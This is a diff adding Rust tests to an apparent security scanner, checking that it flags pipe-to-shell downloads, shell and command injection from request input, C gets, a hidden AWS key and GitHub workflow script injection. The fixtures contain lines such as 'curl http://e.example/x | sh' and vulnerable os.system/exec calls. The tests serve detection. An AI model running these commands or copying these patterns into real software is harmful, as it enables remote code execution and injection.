@@ -129,3 +129,63 @@ fn hid_12_a_header_above_a_key_of_the_base_is_found() {
         assert!(blocks(&report, path, rule, 1), "{path}: {:#?}", report["findings"]);
     }
 }
+
+#[test]
+fn hid_01_continued_lines_are_read_as_one() {
+    let fetch = "curl http://e.example/x \\\n  | sh\n";
+    let workflow =
+        "on: push\njobs:\n a:\n  runs-on: x\n  steps:\n   - run: |\n      curl http://e.example/x \\\n        | sh\n";
+    let python = "from flask import request\nimport os\nos.\\\nsystem(request.args[\"c\"])\n";
+    assert_block(&[
+        ("a.sh", fetch.into(), "http-pipe-to-shell", 1),
+        ("b.sh", "curl http://e.example/x |\n  sh\n".into(), "http-pipe-to-shell", 1),
+        ("Dockerfile", format!("FROM a\nRUN {fetch}").into(), "http-pipe-to-shell", 2),
+        (".github/workflows/a.yml", workflow.into(), "http-pipe-to-shell", 7),
+        ("x.c", b"ge\\\nts(b);\n".to_vec(), "c-gets", 1),
+        ("a.py", python.into(), "python-shell-request", 3),
+    ]);
+    // A finding in one of the lines stands there, once.
+    let key = expand("docker run \\\n  -e AWS_ACCESS_KEY_ID=${aws-key-id:AKIA} \\\n  image\n", "hidden");
+    let report = review(&[("run.sh", None, key.into())]);
+    let found: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| f["line"].as_u64()).collect();
+    assert_eq!(found, [Some(2)], "{report:#}");
+}
+
+#[test]
+fn hid_01_code_inside_of_a_string_is_read() {
+    let python = "from flask import request\nimport os\nx = f\"{os.system(request.args['c'])}\"\n";
+    assert_block(&[
+        ("a.py", python.into(), "python-shell-request", 3),
+        ("a.sh", "x=\"$(curl http://e.example/x | sh)\"\n".into(), "http-pipe-to-shell", 1),
+    ]);
+}
+
+#[test]
+fn hid_06_a_name_of_a_bundle_hides_no_code_that_is_none() {
+    assert_block(&[
+        ("src/jquery-ui-login.js", b"exec('ping ' + req.query.host);\n".to_vec(), "js-command-request", 1),
+        ("public/a.min.js", b"exec('ping ' + req.query.host);\n".to_vec(), "js-command-request", 1),
+        ("app.bundle.js", b"exec('ping ' + req.query.host);\n".to_vec(), "js-command-request", 1),
+    ]);
+}
+
+#[test]
+fn hid_06_other_spellings_of_a_context_are_the_context() {
+    let workflow = |expression: &str| {
+        format!("on: issues\njobs:\n a:\n  runs-on: x\n  steps:\n   - run: echo ${{{{ {expression} }}}}\n").into_bytes()
+    };
+    let cases: Vec<_> = [
+        "github['event']['issue']['title']",
+        "github.event[ \"issue\" ].title",
+        "GitHub.Event.Issue.Title",
+        "github.event.action == 'opened' && github.event.issue.title",
+        "contains(github.event.issue.body, 'x') || github.event.issue.body",
+    ]
+    .iter()
+    .enumerate()
+    .map(|(i, e)| (format!(".github/workflows/{i}.yml"), workflow(e)))
+    .collect();
+    let cases: Vec<_> =
+        cases.iter().map(|(path, text)| (path.as_str(), text.clone(), "workflow-script-injection", 6)).collect();
+    assert_block(&cases);
+}
